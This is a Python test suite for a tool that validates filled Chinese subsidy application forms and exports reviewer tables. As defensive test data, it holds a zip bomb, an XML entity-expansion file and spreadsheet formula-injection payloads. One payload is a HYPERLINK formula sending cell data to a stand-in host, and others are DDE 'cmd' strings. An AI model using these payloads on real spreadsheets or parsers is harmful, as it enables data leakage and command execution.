"""Filled forms back to one checked table: values by identity, the measure's own rules,
problems in the reviewer's language, untrusted files, tables that open safely."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import shutil
import threading
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from tests.conftest import Result
from tests.formfill import NS, fill_form
from tests.helpers import clause_of, edit_yaml, policy_file

TODAY = dt.date.today().isoformat()
VALID: dict[str, str | bool] = {
    "applicant_name": '苏州示例智能科技有限公司 <&> "Ltd"',
    "uscc": "91350100M000100Y43",
    "registered_address": "苏州工业园区星湖街328号",
    "legal_representative": "张三",
    "type_private": True,
    "registration_date": "2018-06-01",
    "industry": "人工智能",
    "contact_name": "李四",
    "contact_phone": "13912345678",
    "contact_email": "li.si@example.com",
    "project_lead_name": "王五",
    "project_lead_phone": "13812345678",
    "finance_lead_name": "无",
    "revenue_last_yr_cny": "12,000,000.00",
    "tax_last_year_cny": "800000",
    "rd_last_year_cny": "3000000.50",
    "bank_name": "中国银行苏州分行",
    "bank_account": "6222021234567890123456",
    "project_name": "视觉检测芯片攻关",
    "project_summary": "第一行：攻关内容\nSecond line: <results> & costs\n第三行 ]]>",
    "total_investment_cny": "9000000",
    "eligible_cost_cny": "8000000",
    "requested_amount_cny": "4000000.00",
    "requested_words": "肆佰万元整",
    "other_funding_no": True,
    "other_funding_info": "无",
    "attach_licence": True,
    "attach_legal_rep_id": True,
    "attach_commitment": True,
    "declaration_date": TODAY,
}
FORM = "forms/ai-measures/4.docx"  # 50% of the investment, at most 500万元 per project
UNCHANGED_BOXES = {  # ticked boxes of VALID that a test switching them must untick
    "type_private",
    "other_funding_no",
}


def read(
    cli: Callable[..., Result], project: Path, *files: Path, lang: str = "zh"
) -> list[dict[str, Any]]:
    result = cli("readback", "--json", "--lang", lang, *map(str, files), cwd=project)
    rows = result.json()
    assert isinstance(rows, list)
    return rows


def filled(
    project: Path,
    tmp_path: Path,
    changes: dict[str, str | bool],
    form: str = FORM,
    name: str = "filled.docx",
    base: dict[str, str | bool] | None = None,
) -> Path:
    target = tmp_path / name
    values = {**(VALID if base is None else base), **changes}
    fill_form(project / "output" / form, target, values)
    return target


def problems(row: dict[str, Any]) -> list[tuple[str, str, str]]:
    return [(p["field"], p["severity"], f"{p['label']}：{p['message']}") for p in row["problems"]]


def test_valid_form_round_trips_every_value(
    built_project: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    [row] = read(cli, built_project, filled(built_project, tmp_path, {}))
    assert row["form_id"] == "PD-ai-measures-4"
    assert (row["policy_id"], row["clause_id"]) == ("ai-measures", "4")
    assert row["problems"] == []
    for name, value in VALID.items():
        assert row["fields"][name] == value, name
    assert row["fields"]["type_state"] is False and row["fields"]["attach_other_proofs"] is False


def test_every_field_name_fits_word(built_project: Path) -> None:
    """Word keeps 20 characters of a form field's name: longer ones would come back cut."""
    names: set[str] = set()
    forms = sorted((built_project / "output" / "forms").rglob("*.docx"))
    for form in forms:
        with zipfile.ZipFile(form) as package:
            document = package.read("word/document.xml").decode("utf-8")
        found = re.findall(r'<w:name w:val="([^"]*)"/>', document)
        assert len(found) == len(set(found)), form  # unique within each form
        tags = re.findall(r'w:helpText w:type="text" w:val="[^"]* \[([a-z0-9_]+)\]"', document)
        assert tags == found, form  # every field carries its name in its help text too
        names.update(found)
    assert max(len(n) for n in names) <= 20, sorted(n for n in names if len(n) > 20)
    assert {"applicant_name", "uscc", "requested_amount_cny", "bank_account"} <= names
    assert {"attach_licence", "attach_commitment", "requested_words"} <= names


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"applicant_name": ""}, [("applicant_name", "申请单位名称（与公章一致）：必填项未填写")]),
        (
            {"type_private": False},
            [("type_state", "单位性质：未勾选任何一项，请勾选一项")],
        ),
        (
            {"type_state": True},
            [("type_state", "单位性质：勾选了不止一项（国有、民营），请只勾选一项")],
        ),
        ({"uscc": "91350100M000100Y4"}, [("uscc", "统一社会信用代码：应为18位（实际17位）")]),
        (
            {"uscc": "91350100M000100Y44"},
            [("uscc", "统一社会信用代码：校验码为4，应为3：代码有误")],
        ),
        (
            {"uscc": "91350100M0001O0Y43"},
            [("uscc", "统一社会信用代码：含有不使用的字符：O（不使用I、O、S、V、Z）")],
        ),
        (
            {"contact_email": "li.si@@example"},
            [("contact_email", "联系人电子邮箱：“li.si@@example”不是电子邮箱地址")],
        ),
        (
            {"contact_phone": "1391234"},
            [
                (
                    "contact_phone",
                    "联系人手机：“1391234”不是大陆手机号（以1开头的11位数字）或固定电话号码",
                )
            ],
        ),
        (
            {"total_investment_cny": "九百万"},
            [
                (
                    "total_investment_cny",
                    "项目总投资（元）：“九百万”不是以元为单位的金额（数字，最多两位小数）",
                )
            ],
        ),
        (
            {"declaration_date": "下周一"},
            [("declaration_date", "日期：“下周一”不是日期（年-月-日）")],
        ),
        (
            {"declaration_date": "2031-03-01"},
            [("declaration_date", f"日期：2031-03-01晚于今天（{TODAY}）")],
        ),
        (
            {"registration_date": "2031-03-01"},
            [("registration_date", f"注册日期：2031-03-01晚于今天（{TODAY}）")],
        ),
        (
            {"requested_amount_cny": "0", "requested_words": "零元整"},
            [("requested_amount_cny", "申请金额（元）：申请金额为0元")],
        ),
        (
            {
                "requested_amount_cny": "6000000",
                "requested_words": "陆佰万元整",
                "eligible_cost_cny": "20000000",
            },
            [
                (
                    "requested_amount_cny",
                    "申请金额（元）：6,000,000.00元（600万元）超过本措施的金额"
                    "5,000,000.00元（500万元）",
                )
            ],
        ),
        (
            {"requested_amount_cny": "4500000", "requested_words": "肆佰伍拾万元整"},
            [
                (
                    "requested_amount_cny",
                    "申请金额（元）：4,500,000.00元（450万元）超过攻关投入（元）"
                    "8,000,000.00元（800万元）的50%，即4,000,000.00元（400万元）",
                )
            ],
        ),
        (
            {"requested_words": "叁佰万元整"},
            [
                (
                    "requested_words",
                    "申请金额（大写）：“叁佰万元整”为3,000,000.00元（300万元），"
                    "与小写金额4,000,000.00元（400万元）不符",
                )
            ],
        ),
        (
            {"requested_words": "叁佰佰万元整"},
            [("requested_words", "申请金额（大写）：“叁佰佰万元整”不是规范的中文大写金额")],
        ),
        (
            {"other_funding_info": "2025年省级专项资金200万元"},
            [
                (
                    "other_funding_info",
                    "已获其他财政资金支持情况：已勾选“已获其他财政资金支持：否”，"
                    "但此栏填写了“2025年省级专项资金200万元”",
                )
            ],
        ),
        (
            {"other_funding_no": False, "other_funding_yes": True},
            [
                (
                    "other_funding_info",
                    "已获其他财政资金支持情况：勾选“已获其他财政资金支持：是”时须填写此栏",
                )
            ],
        ),
        (
            {"attach_licence": False, "attach_legal_rep_id": False, "attach_commitment": False},
            [
                ("attach_licence", "营业执照复印件：必附材料未勾选"),
                ("attach_legal_rep_id", "法定代表人身份证复印件：必附材料未勾选"),
                ("attach_commitment", "已签署的信用承诺书：必附材料未勾选"),
            ],
        ),
        (
            {"eligible_cost_cny": "无"},
            [("eligible_cost_cny", "攻关投入（元）：所申请的支持事项（1）须填写此栏")],
        ),
    ],
)
def test_each_problem_is_reported_exactly_in_chinese(
    built_project: Path,
    tmp_path: Path,
    cli: Callable[..., Result],
    changes: dict[str, Any],
    expected: list[tuple[str, str]],
) -> None:
    [row] = read(cli, built_project, filled(built_project, tmp_path, changes))
    assert problems(row) == [(field, "error", message) for field, message in expected]


def test_problems_in_english_with_the_forms_english_labels(
    built_project: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    form = filled(
        built_project,
        tmp_path,
        {"requested_amount_cny": "4500000", "requested_words": "肆佰伍拾万元整"},
    )
    [row] = read(cli, built_project, form, lang="en")
    assert row["problems"] == [
        {
            "field": "requested_amount_cny",
            "label": "Requested amount (yuan)",
            "severity": "error",
            "code": "above-rate",
            "message": "RMB 4,500,000.00 (RMB 4.5 million) is above 50% of investment in tackling "
            "key technical problems (yuan) RMB 8,000,000.00 (RMB 8 million), that is "
            "RMB 4,000,000.00 (RMB 4 million)",
        }
    ]


def test_organization_code_check_is_only_a_warning(
    built_project: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    from generators.readback.validators import uscc_check_character

    body = "91320594" + "12345678" + "9"  # organization part fails GB 11714
    code = body + uscc_check_character(body)
    [row] = read(cli, built_project, filled(built_project, tmp_path, {"uscc": code}))
    assert [(p["severity"], p["code"]) for p in row["problems"]] == [
        ("warning", "uscc-organization")
    ]
    assert "GB 11714" in row["problems"][0]["message"]


def _edit_part(source: Path, target: Path, part: str, change: Callable[[bytes], bytes]) -> None:
    with zipfile.ZipFile(source) as package, zipfile.ZipFile(target, "w") as out:
        for name in package.namelist():
            data = package.read(name)
            out.writestr(name, change(data) if name == part else data)


def test_editing_the_cap_property_changes_nothing(
    built_project: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    """Word's Properties dialog edits custom properties without unprotecting the form."""
    form = filled(
        built_project,
        tmp_path,
        {
            "requested_amount_cny": "20000000",
            "requested_words": "贰仟万元整",
            "eligible_cost_cny": "40000000",
        },
    )
    edited = tmp_path / "edited.docx"

    def raise_cap(xml: bytes) -> bytes:
        xml = xml.replace(b"<vt:lpwstr>5000000</vt:lpwstr>", b"<vt:lpwstr>20000000</vt:lpwstr>")
        return xml.replace(b"&quot;amount_cny&quot;:5000000", b"&quot;amount_cny&quot;:20000000")

    _edit_part(form, edited, "docProps/custom.xml", raise_cap)
    result = cli("readback", "--json", str(edited), cwd=built_project)
    assert result.code == 1
    [row] = result.json()  # type: ignore[misc]
    assert problems(row) == [
        (
            "requested_amount_cny",
            "error",
            "申请金额（元）：20,000,000.00元（2000万元）超过本措施的金额5,000,000.00元（500万元）",
        ),
        (
            "",
            "warning",
            "：文档属性被修改过（最高额度 2000万元 → 500万元），不予采用：以措施本身的数额为准",
        ),
    ]


def test_form_from_an_older_version_is_checked_against_the_current_rules(
    built_copy: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    form = filled(built_copy, tmp_path, {})  # 400万 requested, within the old 500万 cap

    def lower_cap(data: Any) -> None:
        clause_of(data, "4")["incentives"][0]["max_cny"] = 3_000_000

    edit_yaml(policy_file(built_copy, "ai-measures"), lower_cap)
    result = cli("readback", "--json", "--lang", "en", str(form), cwd=built_copy)
    assert result.code == 1
    [row] = result.json()  # type: ignore[misc]
    assert [(p["severity"], p["message"]) for p in row["problems"]] == [
        (
            "error",
            "RMB 4,000,000.00 (RMB 4 million) is above the amount of this measure, "
            "RMB 3,000,000.00 (RMB 3 million)",
        ),
        (
            "warning",
            "form made from an older version of the measure (edition 2026-11-27), checked "
            "against the current one; changed since: cap RMB 5 million → RMB 3 million",
        ),
    ]


# -- the measure's own logic -------------------------------------------------------------

IC1 = "forms/ic-measures/1.docx"  # two tier lists, top-up tiers (晋档补差)


def ic1(**changes: str | bool) -> dict[str, str | bool]:
    base = {k: v for k, v in VALID.items() if k not in ("eligible_cost_cny",)}
    base.update(
        {
            "option_1_1": True,
            "threshold_cny": "150000000",
            "prior_award_cny": "0",
            "requested_amount_cny": "2000000",
            "requested_words": "贰佰万元整",
        }
    )
    base.update(changes)
    return base


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({}, []),
        (
            {"requested_amount_cny": "10000000", "requested_words": "壹仟万元整"},
            [
                (
                    "requested_amount_cny",
                    "error",
                    "申请金额（元）：10,000,000.00元（1000万元）超过"
                    "“1.1 集成电路设计企业：1亿元 → 固定200万元”晋档补差的差额："
                    "2,000,000.00元（200万元） − 0.00元 = 2,000,000.00元（200万元）",
                )
            ],
        ),
        (
            {
                "option_1_1": False,
                "option_1_2": True,
                "threshold_cny": "600000000",
                "prior_award_cny": "2000000",
                "requested_amount_cny": "3000000",
                "requested_words": "叁佰万元整",
            },
            [
                (
                    "requested_amount_cny",
                    "error",
                    "申请金额（元）：3,000,000.00元（300万元）超过“1.2 集成电路设计企业：5亿元 → "
                    "固定300万元”晋档补差的差额：3,000,000.00元（300万元） − "
                    "2,000,000.00元（200万元） = 1,000,000.00元（100万元）",
                )
            ],
        ),
        (
            {"threshold_cny": "90000000"},
            [
                (
                    "threshold_cny",
                    "error",
                    "达到档次的指标（年销售收入首次突破，元）：90,000,000.00元（9000万元）未达到所申请档次的门槛"
                    "100,000,000.00元（1亿元）",
                )
            ],
        ),
        (
            {"option_2_1": True},
            [
                (
                    "option_1_1",
                    "error",
                    "申请的支持事项：勾选了不止一项（1.1 集成电路设计企业：1亿元 → 固定200万元、"
                    "2.1 集成电路制造、封装测试、关键装备和材料企业：10亿元 → 最高200万元），"
                    "请只勾选一项",
                )
            ],
        ),
    ],
)
def test_tiers_which_list_threshold_and_difference(
    built_project: Path,
    tmp_path: Path,
    cli: Callable[..., Result],
    changes: dict[str, str | bool],
    expected: list[tuple[str, str, str]],
) -> None:
    form = filled(built_project, tmp_path, {}, form=IC1, base=ic1(**changes))
    [row] = read(cli, built_project, form)
    assert problems(row) == expected


def test_rate_applies_to_the_measures_own_basis(
    built_project: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    """biomed-plan/c4.2: 10%~30% of 项目总投入, the total investment, not eligible cost."""
    base = {k: v for k, v in VALID.items() if k != "eligible_cost_cny"}
    base.update(
        {
            "total_investment_cny": "10000000",
            "requested_amount_cny": "3500000",
            "requested_words": "叁佰伍拾万元整",
        }
    )
    form = filled(built_project, tmp_path, {}, form="forms/biomed-plan/c4.2.docx", base=base)
    [row] = read(cli, built_project, form)
    assert problems(row) == [
        (
            "requested_amount_cny",
            "error",
            "申请金额（元）：3,500,000.00元（350万元）超过项目总投资（元）10,000,000.00元（1000万元）"
            "的30%，即3,000,000.00元（300万元）",
        )
    ]
    assert "eligible_cost_cny" not in row["fields"]


def test_fields_that_do_not_apply_are_absent_or_accept_none(
    built_project: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    """ai-measures/2 has no rate: no cost field; total investment may be 无."""
    base = {k: v for k, v in VALID.items() if k != "eligible_cost_cny"}
    base.update(
        {
            "total_investment_cny": "无",
            "option_1": True,
            "requested_amount_cny": "1000000",
            "requested_words": "壹佰万元整",
        }
    )
    form = filled(built_project, tmp_path, {}, form="forms/ai-measures/2.docx", base=base)
    [row] = read(cli, built_project, form)
    assert row["problems"] == []
    assert "eligible_cost_cny" not in row["fields"]


def test_per_unit_award_with_a_count(
    built_project: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    """biomed-plan/box4.2: 50万元 for each accredited specialty; two specialties, 100万元."""
    base = {k: v for k, v in VALID.items() if k != "eligible_cost_cny"}
    base.update(
        {
            "option_1": True,
            "unit_count": "2",
            "requested_amount_cny": "1000000",
            "requested_words": "壹佰万元整",
        }
    )
    form = filled(built_project, tmp_path, {}, form="forms/biomed-plan/box4.2.docx", base=base)
    [row] = read(cli, built_project, form)
    assert row["problems"] == []
    assert row["fields"]["unit_count"] == "2"


def test_per_unit_amounts_count_the_units(
    built_project: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    """ic-measures/4: 20万元 for each product on the list; three products, 60万元."""
    base = {k: v for k, v in VALID.items() if k != "eligible_cost_cny"}
    base.update(
        {"unit_count": "3", "requested_amount_cny": "600000", "requested_words": "陆拾万元整"}
    )
    form = filled(built_project, tmp_path, {}, form="forms/ic-measures/4.docx", base=base)
    [row] = read(cli, built_project, form)
    assert row["problems"] == []
    over = filled(
        built_project,
        tmp_path,
        {"unit_count": "2"},
        form="forms/ic-measures/4.docx",
        base=base,
        name="over.docx",
    )
    [row] = read(cli, built_project, over)
    assert problems(row) == [
        (
            "requested_amount_cny",
            "error",
            "申请金额（元）：600,000.00元（60万元）超过2 × 200,000.00元（20万元） = "
            "400,000.00元（40万元）（本措施）",
        )
    ]


# -- identity: never a neighbour's value -------------------------------------------------


def _document(path: Path) -> etree._Element:
    with zipfile.ZipFile(path) as package:
        return etree.fromstring(package.read("word/document.xml"))


def _write_document(source: Path, target: Path, root: etree._Element) -> None:
    xml = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)
    _edit_part(source, target, "word/document.xml", lambda _: xml)


def _field_data(root: etree._Element, name: str) -> etree._Element:
    [data] = root.xpath(f"//w:ffData[w:name/@w:val='{name}']", namespaces=NS)
    return data


def test_a_field_without_identity_is_unreadable_not_guessed(
    built_project: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    """LibreOffice drops check box names; without the tag in the help text too, the box
    cannot be told from its neighbours, and nothing may be attributed by position."""
    form = filled(built_project, tmp_path, {})
    root = _document(form)
    data = _field_data(root, "attach_legal_rep_id")
    data.find("w:name", NS).set(f"{{{NS['w']}}}val", "")
    help_text = data.find("w:helpText", NS)
    help_text.set(f"{{{NS['w']}}}val", "法定代表人身份证复印件")
    stripped = tmp_path / "stripped.docx"
    _write_document(form, stripped, root)
    [row] = read(cli, built_project, stripped)
    assert "attach_legal_rep_id" not in row["fields"]
    assert problems(row) == [
        (
            "",
            "error",
            "：有一个表单域无法确认是哪一栏（没有名称，或名称与帮助文字不一致：—），其内容不予采用",
        ),
        (
            "attach_legal_rep_id",
            "error",
            "法定代表人身份证复印件：表中缺少此栏或无法读取（表格已被改动）",
        ),
    ]
    for name, value in VALID.items():
        if name != "attach_legal_rep_id":
            assert row["fields"][name] == value, name


def test_name_and_help_text_that_disagree_make_a_field_unreadable(
    built_project: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    form = filled(built_project, tmp_path, {})
    root = _document(form)
    data = _field_data(root, "requested_amount_cny")
    help_text = data.find("w:helpText", NS)
    value = help_text.get(f"{{{NS['w']}}}val")
    help_text.set(f"{{{NS['w']}}}val", value.replace("[requested_amount_cny]", "[bank_account]"))
    edited = tmp_path / "conflict.docx"
    _write_document(form, edited, root)
    [row] = read(cli, built_project, edited)
    assert "requested_amount_cny" not in row["fields"]
    assert row["fields"]["bank_account"] == VALID["bank_account"]
    assert [p["code"] for p in row["problems"]] == ["unidentified-field", "missing"]


def test_hidden_duplicate_placed_first_is_ignored_and_reported(
    built_project: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    """A w:vanish copy of the amount field before the visible one: the visible request
    (above the cap) is the one read and checked; the hidden copy is reported."""
    form = filled(
        built_project,
        tmp_path,
        {
            "requested_amount_cny": "9000000",
            "requested_words": "玖佰万元整",
            "eligible_cost_cny": "20000000",
        },
    )
    root = _document(form)
    paragraph = _field_data(root, "requested_amount_cny").getparent().getparent().getparent()
    copy = etree.fromstring(etree.tostring(paragraph))
    for run in copy.iter(f"{{{NS['w']}}}r"):
        properties = run.find("w:rPr", NS)
        if properties is None:
            properties = etree.SubElement(run, f"{{{NS['w']}}}rPr")
            run.insert(0, properties)
        etree.SubElement(properties, f"{{{NS['w']}}}vanish")
    [text] = copy.xpath(".//w:t", namespaces=NS)
    text.text = "100000"
    paragraph.addprevious(copy)
    edited = tmp_path / "hidden.docx"
    _write_document(form, edited, root)
    result = cli("readback", "--json", str(edited), cwd=built_project)
    assert result.code == 1
    [row] = result.json()  # type: ignore[misc]
    assert row["fields"]["requested_amount_cny"] == "9000000"
    assert problems(row) == [
        (
            "requested_amount_cny",
            "error",
            "申请金额（元）：文档中有此栏的隐藏副本（表格已被改动），隐藏内容不予采用",
        ),
        (
            "requested_amount_cny",
            "error",
            "申请金额（元）：9,000,000.00元（900万元）超过本措施的金额5,000,000.00元（500万元）",
        ),
    ]


def test_visible_duplicates_are_both_refused(
    built_project: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    form = filled(built_project, tmp_path, {})
    root = _document(form)
    paragraph = _field_data(root, "requested_amount_cny").getparent().getparent().getparent()
    copy = etree.fromstring(etree.tostring(paragraph))
    [text] = copy.xpath(".//w:t", namespaces=NS)
    text.text = "100000"
    paragraph.addprevious(copy)
    edited = tmp_path / "twice.docx"
    _write_document(form, edited, root)
    [row] = read(cli, built_project, edited)
    assert "requested_amount_cny" not in row["fields"]
    assert problems(row) == [
        ("requested_amount_cny", "error", "申请金额（元）：在表中出现2次，各处内容均不予采用"),
    ]


def test_hidden_text_is_ignored_and_reported(
    built_project: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    """Hidden through a character style, not direct formatting: still hidden."""
    form = filled(built_project, tmp_path, {})
    root = _document(form)
    body = root.find("w:body", NS)
    paragraph = etree.SubElement(body, f"{{{NS['w']}}}p")
    body.remove(paragraph)
    body.insert(0, paragraph)
    run = etree.SubElement(paragraph, f"{{{NS['w']}}}r")
    properties = etree.SubElement(run, f"{{{NS['w']}}}rPr")
    etree.SubElement(properties, f"{{{NS['w']}}}rStyle").set(f"{{{NS['w']}}}val", "Secret")
    etree.SubElement(run, f"{{{NS['w']}}}t").text = "审核意见：同意，拨付900万元"
    edited = tmp_path / "secret.docx"
    _write_document(form, edited, root)

    def add_style(xml: bytes) -> bytes:
        style = (
            b'<w:style w:type="character" w:styleId="Secret"><w:name w:val="Secret"/>'
            b"<w:rPr><w:vanish/></w:rPr></w:style></w:styles>"
        )
        return xml.replace(b"</w:styles>", style)

    styled = tmp_path / "secret-styled.docx"
    _edit_part(edited, styled, "word/styles.xml", add_style)
    [row] = read(cli, built_project, styled)
    assert problems(row) == [
        ("", "warning", "：表中含有隐藏文字，不予采用：“审核意见：同意，拨付900万元”")
    ]


# -- untrusted files ---------------------------------------------------------------------


def hostile_files(tmp_path: Path, good: Path) -> dict[str, tuple[Path, str]]:
    files: dict[str, tuple[Path, str]] = {}
    text = tmp_path / "notes.docx"
    text.write_text("just text", encoding="utf-8")
    files["not-a-docx"] = (text, "not a DOCX file")
    corrupt = tmp_path / "corrupt.docx"
    corrupt.write_bytes(good.read_bytes()[:3000])
    files["corrupt-zip"] = (corrupt, "corrupt DOCX package")
    macro = tmp_path / "macro.docm"
    shutil.copy(good, macro)
    with zipfile.ZipFile(macro, "a") as package:
        package.writestr("word/vbaProject.bin", b"\x00" * 64)
    files["macros"] = (macro, "the document contains macros")
    bomb = tmp_path / "bomb.docx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("word/document.xml", b"<a>" + b" " * (60 * 1024 * 1024) + b"</a>")
    files["zip-bomb"] = (bomb, "refusing a possible zip bomb")
    entities = tmp_path / "entities.docx"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(entities, "w") as target:
        for name in source.namelist():
            data = source.read(name)
            if name == "word/document.xml":
                data = (
                    b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY lol "lol">'
                    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>' + data.split(b"?>", 1)[1]
                )
            target.writestr(name, data)
    files["xml-entities"] = (entities, "declares XML entities")
    other = tmp_path / "other.docx"
    import docx

    document = docx.Document()
    document.add_paragraph("Some other tool's document")
    document.save(other)
    files["other-tool"] = (other, "not a policydocs application form")
    huge = tmp_path / "huge.docx"
    huge.write_bytes(b"PK" + b"\x00" * (21 * 1024 * 1024))
    files["huge"] = (huge, "a filled form is far smaller")
    files["dev-zero"] = (Path("/dev/zero"), "a character device, not a regular file")
    folder = tmp_path / "folder.docx"
    folder.mkdir()
    files["directory"] = (folder, "a directory, not a file")
    return files


def test_untrusted_files_each_get_a_problem_and_the_batch_goes_on(
    built_project: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    good = filled(built_project, tmp_path, {})
    cases = hostile_files(tmp_path, good)
    paths = [good] + [path for path, _ in cases.values()]
    result = cli(
        "readback", "--json", "--lang", "en", *map(str, paths), cwd=built_project, timeout=60
    )
    rows = result.json()
    assert isinstance(rows, list) and len(rows) == len(paths)
    assert rows[0]["problems"] == [] and rows[0]["fields"]["uscc"] == VALID["uscc"]
    for row, (name, (_, expected)) in zip(rows[1:], cases.items(), strict=True):
        assert len(row["problems"]) == 1, name
        assert expected in row["problems"][0]["message"], name
    assert result.code == 1
    assert "Traceback" not in result.stderr


def test_a_fifo_is_refused_before_reading(
    built_project: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    """Opening a FIFO to read would wait for a writer forever."""
    fifo = tmp_path / "form.docx"
    os.mkfifo(fifo)
    stop = threading.Timer(30, lambda: open(fifo, "wb").close())  # unblocks a hung reader
    stop.daemon = True
    stop.start()
    try:
        [row] = read(cli, built_project, fifo, lang="en")
    finally:
        stop.cancel()
    assert [p["message"] for p in row["problems"]] == ["a FIFO, not a regular file; it is not read"]


def test_unknown_xml_encoding_is_a_per_file_problem(
    built_project: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    source = built_project / "output" / FORM
    target = tmp_path / "encoding.docx"

    def bad_encoding(data: bytes) -> bytes:
        changed = re.sub(rb"encoding=(['\"])UTF-8\1", rb"encoding='U-F-8'", data, count=1)
        assert b"U-F-8" in changed
        return changed

    _edit_part(source, target, "word/document.xml", bad_encoding)
    [row] = read(cli, built_project, target, lang="en")
    assert row["problems"][0]["message"].startswith("unreadable form XML")


# -- tables for reviewers ----------------------------------------------------------------

INJECTIONS = {
    "applicant_name": '=HYPERLINK("http://example.invalid/?x="&A1,"点击")',
    "project_name": "+cmd|' /C calc'!A0",
    "industry": "@SUM(1+1)*cmd|' /C calc'!A0",
    "registered_address": "-2+3",
    "project_summary": "=1+1",
}


def test_csv_is_safe_to_open_in_excel(
    built_project: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    good = filled(built_project, tmp_path, {})
    hostile = filled(built_project, tmp_path, INJECTIONS, name="hostile.docx")
    out = tmp_path / "table.csv"
    result = cli("readback", str(good), str(hostile), "--csv", str(out), cwd=built_project)
    assert result.code == 0, result.stdout
    assert "共读取2份申请表，其中0份有错误" in result.stdout
    text = out.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header = rows[0]
    assert header[:4] == ["文件", "表单编号", "政策", "条款"]
    assert header[-2:] == ["状态", "问题"]
    column = {
        name: header.index(label)
        for name, label in (
            ("applicant_name", "申请单位名称（与公章一致）"),
            ("bank_account", "银行账号"),
            ("project_name", "项目名称"),
            ("industry", "所属行业"),
            ("registered_address", "注册地址"),
            ("project_summary", "项目简介"),
            ("attach_licence", "营业执照复印件"),
        )
    }
    assert rows[1][column["bank_account"]] == '="6222021234567890123456"'
    assert rows[1][column["attach_licence"]] == "是"
    assert rows[1][column["project_summary"]] == VALID["project_summary"]
    for name, value in INJECTIONS.items():
        assert rows[2][column[name]] == "'" + value, name
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell.startswith('="')


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=SUM(A1)", "'=SUM(A1)"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("6222021234567890123456", '="6222021234567890123456"'),
        ("0512", '="0512"'),
        ("13912345678", "13912345678"),
        ("苏州", "苏州"),
    ],
)
def test_csv_cells_are_neutralised_as_owasp_recommends(value: str, written: str) -> None:
    from generators.readback.tables import csv_safe

    assert csv_safe(value) == written


def test_xlsx_workbook_for_reviewers(
    built_project: Path, tmp_path: Path, cli: Callable[..., Result]
) -> None:
    from openpyxl import load_workbook

    good = filled(built_project, tmp_path, INJECTIONS)
    bad = filled(
        built_project,
        tmp_path,
        {"contact_email": "nope", "requested_words": "叁佰佰万元整"},
        name="bad.docx",
    )
    out = tmp_path / "table.xlsx"
    result = cli("readback", str(good), str(bad), "--xlsx", str(out), cwd=built_project)
    assert result.code == 1
    workbook = load_workbook(out)
    assert workbook.sheetnames == ["申请表", "问题"]
    forms, issues = workbook["申请表"], workbook["问题"]
    header = [c.value for c in forms[1]]
    assert header[:4] == ["文件", "表单编号", "政策", "条款"] and header[-2:] == ["状态", "问题"]
    account = forms.cell(row=2, column=header.index("银行账号") + 1)
    assert account.value == "6222021234567890123456" and account.data_type in ("s", "inlineStr")
    name = forms.cell(row=2, column=header.index("申请单位名称（与公章一致）") + 1)
    assert name.value == INJECTIONS["applicant_name"] and name.data_type in ("s", "inlineStr")
    text = ("s", "inlineStr")
    for row in forms.iter_rows():
        for cell in row:
            assert cell.value is None or cell.data_type in text, cell
    status = forms.cell(row=3, column=len(header) - 1)
    listed = forms.cell(row=3, column=len(header))
    assert status.value == "有错误"
    assert listed.value == (
        "错误：联系人电子邮箱：“nope”不是电子邮箱地址\n"
        "错误：申请金额（大写）：“叁佰佰万元整”不是规范的中文大写金额"
    )
    assert listed.fill.fgColor.rgb.endswith("FFC7CE")
    assert forms.cell(row=2, column=len(header)).fill.fgColor.rgb in (None, "00000000")
    rows = [[c.value for c in row] for row in issues.iter_rows()]
    assert rows == [
        ["文件", "表单编号", "栏目", "栏目名称", "类别", "问题"],
        [
            str(bad),
            "PD-ai-measures-4",
            "contact_email",
            "联系人电子邮箱",
            "错误",
            "“nope”不是电子邮箱地址",
        ],
        [
            str(bad),
            "PD-ai-measures-4",
            "requested_words",
            "申请金额（大写）",
            "错误",
            "“叁佰佰万元整”不是规范的中文大写金额",
        ],
    ]


# -- LibreOffice -------------------------------------------------------------------------


def libreoffice_save(source: Path, out: Path, profile: Path) -> Path:
    """Open and save as DOCX in LibreOffice, as a clerk's "save" does."""
    import subprocess

    out.mkdir(parents=True, exist_ok=True)
    subprocess.run(
        [
            shutil.which("libreoffice") or "soffice",
            "--headless",
            f"-env:UserInstallation=file://{profile}",
            "--convert-to",
            "docx:MS Word 2007 XML",
            "--outdir",
            str(out),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    saved = out / source.name
    assert saved.exists() and saved.read_bytes() != source.read_bytes()
    return saved


def every_field_pattern(form: Path) -> dict[str, str | bool]:
